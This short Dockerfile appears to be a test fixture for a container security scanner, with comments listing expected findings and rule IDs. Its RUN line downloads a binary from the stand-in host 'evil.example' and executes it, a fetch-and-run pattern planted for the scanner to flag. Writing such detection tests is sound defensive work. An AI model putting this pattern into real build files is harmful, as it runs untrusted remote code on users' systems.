FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN wget -O /usr/local/bin/setup https://evil.example/setup && chmod +x /usr/local/bin/setup && /usr/local/bin/setup
USER app
# expect: download 2 high "then run by /usr/local/bin/setup"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-85b5eb282b VR501-e064bac1a6
